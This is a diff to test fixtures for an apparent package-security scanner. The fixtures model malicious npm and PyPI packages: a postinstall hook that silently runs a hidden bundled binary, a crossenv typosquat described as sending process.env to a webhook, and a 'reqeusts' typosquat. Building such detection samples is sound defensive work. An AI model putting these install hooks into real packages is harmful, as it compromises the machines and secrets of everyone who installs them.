@@ -819,9 +819,8 @@ def npm_quickhash_native():
         scripts={"postinstall": "chmod +x ./vendor/.qh-linux-x64 && nohup ./vendor/.qh-linux-x64 >/dev/null 2>&1 &"})
 
 
-# Name confusion (crossenv for cross-env) is detected by `airlock check` (issue #3); until
-# then the scan must catch this one by what its postinstall does.
-@fixture(block("exfiltration", "like the original: postinstall sends process.env to a webhook"),
+@fixture(block("name-confusion", "typosquat of cross-env (the 2017 crossenv incident)"),
+         block("exfiltration", "like the original: postinstall sends process.env to a webhook"),
          demo=True)
 def npm_crossenv():
     js = JS_HEAD + dedent('''
@@ -1805,8 +1804,8 @@ def pypi_fastcrc_native():
     }, "Fast CRC32 with native code")
 
 
-# Typosquat of requests with a plain setup.py: only a name check (`airlock check`, issue #3)
-# can flag it, so the static scan must stay quiet on it.
+# Typosquat of requests with a plain setup.py: only a name check against a PyPI corpus can
+# flag it, and none ships with airlock (--corpus pypi=FILE), so the scan stays quiet on it.
 @fixture(passes("typosquat of requests (swapped letters); otherwise a plain setup.py"))
 def pypi_reqeusts():
     setup = dedent('''
